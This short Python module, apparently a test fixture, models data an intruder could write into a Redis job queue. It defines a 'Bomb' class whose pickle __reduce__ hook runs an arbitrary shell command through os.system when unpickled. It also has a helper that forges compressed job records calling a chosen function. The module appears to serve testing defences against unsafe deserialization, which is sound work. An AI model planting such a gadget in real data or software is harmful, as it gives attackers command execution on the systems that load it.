"""Data that an intruder could write into Redis."""

import json
import os
import zlib


class Bomb:
    """Runs a command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (self._command,)


def call(function: str, *arguments: object, instance: object = None) -> bytes:
    """Return the data of a job that would call this function."""
    return zlib.compress(json.dumps([function, instance, list(arguments), {}]).encode())
